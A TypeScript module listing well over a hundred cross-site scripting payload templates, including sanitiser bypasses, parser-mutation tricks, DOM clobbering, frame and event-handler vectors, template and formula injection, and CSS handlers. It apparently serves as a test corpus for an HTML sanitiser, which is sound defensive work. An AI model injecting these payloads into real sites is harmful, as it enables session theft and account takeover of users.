// Forms that have got past sanitisers before: scripts, parsers that disagree (mutation), named elements that shadow the page's own
// values, style, and templates of other tools. Each takes the call it tries to make.

type Form = (code: string) => string;
const attribute = (code: string): string => code.replaceAll('"', '&quot;');

export const scriptForms: readonly Form[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT >`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script\u000c>${code}</script\u000c>`,
  (code) => `<script/x>${code}</script/x>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script>${code}`,
  (code) => `<script><!--\n${code}\n//--></script>`,
  (code) => `<script defer async nonce=x>${code}</script>`,
  (code) => `<svg><script>${code.replaceAll('(', '&#40;')}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${attribute(code)}"/></svg>`,
  (code) => `<script src="data:text/javascript,${attribute(code)}"></script>`,
  (code) => `<script>/*</script><svg onload="*/${attribute(code)}//">`,
  (code) => `</script><script>${code}</script>`,
  (code) => `<math><script>${code}</script></math>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<noscript><script>${code}</script></noscript>`,
  (code) => `<script type="text/template">x</script><script>${code}</script>`,
  (code) =>
    `<link rel=modulepreload href="data:text/javascript,${attribute(code)}"><script type=module src="data:text/javascript,${attribute(code)}"></script>`,
  (code) =>
    `<script type=importmap>{"imports":{"x":"data:text/javascript,${attribute(code)}"}}</script><script type=module>import 'x'</script>`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `\\<script>${code}</script>`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `\u003cscript\u003e${code}\u003c/script\u003e`,
];

/** Where one parser reads text and another reads elements. */
const mutations: readonly Form[] = [
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) => `<math><mtext><table><mglyph><style><math><img src onerror=${code}></style></mglyph></table></mtext></math>`,
  (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg><desc><noscript>&lt;/noscript>&lt;img src=1 onerror=${code}>`,
  (code) => `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${code}>">`,
  (code) => `<title><img src=x onerror=${code}></title>`,
  (code) => `<textarea><img src=x onerror=${code}></textarea><img src=x onerror=${code}>`,
  (code) => `<xmp><p title="</xmp><svg/onload=${code}>">`,
  (code) => `<listing>&lt;img src=1 onerror=${code}&gt;</listing>`,
  (code) => `<iframe><p title="</iframe><img src=x onerror=${code}>"></iframe>`,
  (code) => `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!--!><img src=x onerror=${code}>--!>`,
  (code) => `<![CDATA[<img src=x onerror=${code}>]]>`,
  (code) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${code}>//"></svg>`,
  (code) => `<?xml-stylesheet href="javascript:${code}"?><img src=x onerror=${code}>`,
  (code) => `<svg><title><style></title><img src=x onerror=${code}></style></svg>`,
  (code) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
  (code) => `<table><td><form><table><img src=x onerror=${code}></table></form></td></table>`,
  (code) => `<a><b><a><i><img src=x onerror=${code}></b></a></i>`,
  (code) => `<p id="\`onload=\`"><img src="x\`\`onerror=${code}"`,
  (code) => `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
  (code) => `<svg><foreignObject><body onload=${code}><img src=x onerror=${code}></foreignObject></svg>`,
  (code) => `<plaintext><img src=x onerror=${code}>`,
];

/** Elements that take the names of values which the page goes by. */
const clobbering: readonly Form[] = [
  (code) => `<form id=attributes><input name=attributes><img src=x onerror=${code}></form>`,
  (code) => `<form onfocus=${code} tabindex=1 autofocus><input name=parentNode><input name=removeChild></form>`,
  (code) => `<img name=body src=x><img name=getElementById src=x onerror=${code}>`,
  (code) => `<a id=orrery></a><a id=orrery name=url href="javascript:${code}">x</a>`,
  (code) => `<iframe name=self srcdoc="<script>top.${attribute(code)}</script>"></iframe>`,
  (code) => `<p id="__proto__" name="constructor" onclick=${code}>x</p>`,
  (code) => `<input name=innerHTML id=root autofocus onfocus=${code}>`,
];

const frames: readonly Form[] = [
  (code) => `<iframe srcdoc="<script>top.${attribute(code)}</script>"></iframe>`,
  (code) => `<iframe srcdoc="&lt;img src=x onerror=top.${code}&gt;"></iframe>`,
  (code) => `<iframe src="javascript:top.${code}"></iframe>`,
  (code) => `<iframe src="data:text/html,<script>hit(${code.slice(4, -1)})</script>"></iframe>`,
  (code) => `<iframe onload=${code}></iframe>`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (code) => `<object type=text/html data="javascript:${code}"><img src=x onerror=${code}></object>`,
  (code) => `<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${code}'/>">`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  (code) => `<svg><set attributeName=onmouseover to=${code}><rect width=9 height=9 onmouseover=${code}></svg>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${code}'/></svg>#x"/></svg>`,
  (code) => `<svg><image href=x onerror=${code}></svg>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg/onload=${code}//`,
  (code) => `<body onload=${code} onpageshow=${code}>`,
  (code) => `<video><source onerror=${code} src=x></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<details open ontoggle=${code}><summary>x</summary></details>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}><option>x</select>`,
  (code) => `<button popovertarget=p autofocus onfocus=${code}>x</button><div id=p popover onbeforetoggle=${code}>y</div>`,
  (code) => `<a href="#" onclick=${code} accesskey=x>x</a>`,
  (code) => `<link rel=stylesheet href=x onerror=${code}>`,
  (code) => `<link rel=icon href=x onload=${code}>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><img src=x onerror=${code}>`,
  (code) => `<meta http-equiv=Set-Cookie content="a=b"><img src=x onerror=${code}>`,
  (code) => `<marquee onstart=${code}>x</marquee>`,
  (code) => `<x contenteditable autofocus onfocus=${code} tabindex=0>x</x>`,
  (code) => `<dialog open oncancel=${code} onclose=${code}><form method=dialog><button>x</button></form></dialog>`,
  (code) => `<a href=x target="<script>${code}</script>" id=y>x</a><img src=x onerror=${code}>`,
];

/** What templates, formulas and terminals of other programs would run. */
const otherTongues: readonly Form[] = [
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `{{= ${code} }}<img src=x onerror=${code}>`,
  (code) =>
    `<div v-html="'<img src=x onerror=${code}>'" x-init="${attribute(code)}" ng-app ng-init="${attribute(code)}" data-bind="${attribute(code)}" hx-on:load="${attribute(code)}">x</div>`,
  (code) => `<%= ${code} %>`,
  (code) => `\u001b]8;;javascript:${code}\u0007click\u001b]8;;\u0007`,
  (code) => `=HYPERLINK("javascript:${code}")`,
  (code) =>
    `import x from 'data:text/javascript,${code}'\n\nexport const y = ${code}\n\n<X onClick={() => ${code}} dangerouslySetInnerHTML={{__html: "<img src=x onerror=${code}>"}} />`,
  (code) => `:::note{onclick="${attribute(code)}"}\nx\n:::\n{: onclick="${attribute(code)}"}`,
  (code) => `[x]{onclick="${attribute(code)}"}\n\n# x {#id onclick="${attribute(code)}"}`,
  (code) => `[[javascript:${code}]]\n\n[[x|javascript:${code}]]`,
  (code) => `\u202e<img src=x onerror=${code}>\u202c`,
  (code) => `\ufeff<img src=x onerror=${code}>`,
  (code) => `<i\u200bmg src=x onerror=${code}><img\u00a0src=x onerror=${code}>`,
  (code) => `\ud800<img src=x onerror=${code}>\udfff`,
];

export const classics: readonly Form[] = [...mutations, ...clobbering, ...frames, ...otherTongues];

export const cssForms: readonly Form[] = [
  (code) => `<style>@keyframes a{}</style><div style="animation:a 1ms" onanimationstart=${code}>x</div>`,
  (code) => `<style>*{x:expression(${code})}</style>`,
  (code) => `<div style="width:expression(${code});background:url(javascript:${code})">x</div>`,
  (code) => `<style>@import 'javascript:${code}';@import url("data:text/css,*{color:red}");</style>`,
  (code) => `<div style="-moz-binding:url(data:text/xml,${code});behavior:url(x.htc)">x</div>`,
  (code) => `<style><img src=x onerror=${code}></style><img src=x onerror=${code}>`,
  (code) => `<style>a{b:'</style><img src=x onerror=${code}>'}</style>`,
  (code) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange=${code}>x</div>`,
  (code) => `<div style="transition:color 1ms;color:red" ontransitionend=${code} ontransitionrun=${code}>x</div>`,
  (code) => `<link rel=stylesheet href="data:text/css,*{}" onload=${code}>`,
  (code) => `<style onload=${code}>x{}</style>`,
  (code) => `<style>@property --x{syntax:"</style><svg onload=${code}>"}</style>`,
  (code) => `<img src=x style="background-image:url('x')" onerror=${code}>`,
];
